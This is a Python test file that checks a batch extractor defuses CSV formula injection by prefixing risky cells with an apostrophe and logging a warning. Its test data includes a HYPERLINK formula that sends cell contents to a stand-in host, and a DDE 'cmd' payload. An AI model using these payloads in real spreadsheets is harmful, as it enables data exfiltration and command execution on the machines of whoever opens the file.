"""CSV formula injection (issue 10.6): a text cell Excel would run as a formula gets a leading '
in the CSVs, the per-plan JSON keeps the printed value, and a warning says so."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from extract.batch import run_batch
from schemas.output import csv_cell, formula_like
from schemas.validate import validate_dataset

KAMOME = Path(__file__).resolve().parents[1] / "badinputs" / "good" / "kamome_utf8.txt"
HYPERLINK = '=HYPERLINK("http://x.example/?a="&A1,"詳細")'


@pytest.mark.parametrize("text", ["=1+1", HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)",
                                  "-2+3", "\t=1", "\r=1", "-1-1"])
def test_formulas_are_neutralized(text):
    assert formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-2", "+3", "-1,200", "-0.5", "+12%", "1e5", "-", "--", "+",
                                  "1-1", "窓口予約", "", "2023-03"])
def test_numbers_dashes_and_text_are_kept(text):
    assert not formula_like(text)
    assert csv_cell(text) == text


def _rows(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_a_plan_with_formula_names(tmp_path):
    text = KAMOME.read_text(encoding="utf-8")
    text = (text.replace("窓口予約システムの導入", HYPERLINK)
                .replace("公共施設の無料Wi-Fi整備", "@SUM(1+1)"))
    src = tmp_path / "in" / "inject.txt"
    src.parent.mkdir()
    src.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    assert run_batch([src], out, quiet=True) == 0

    names = [r["name"] for r in _rows(out / "projects.csv")]
    assert names == ["'" + HYPERLINK, "'@SUM(1+1)"]
    assert {r["project_name"] for r in _rows(out / "schedule.csv")} == set(names)
    plan = next(p for p in out.glob("*.json") if len(p.stem) == 12)
    doc = json.loads(plan.read_text(encoding="utf-8"))
    assert [p["name"] for p in doc["projects"]] == [HYPERLINK, "@SUM(1+1)"]
    warned = [w for w in doc["warnings"] if w["code"] == "csv_formula_neutralized"]
    assert len(warned) == 2                       # once per value, not per table it appears in
    assert "inject.txt" in warned[0]["message"] and "=HYPERLINK" in warned[0]["message"]
    assert warned[0]["source"]["line"] == 14
    assert validate_dataset(out) == []
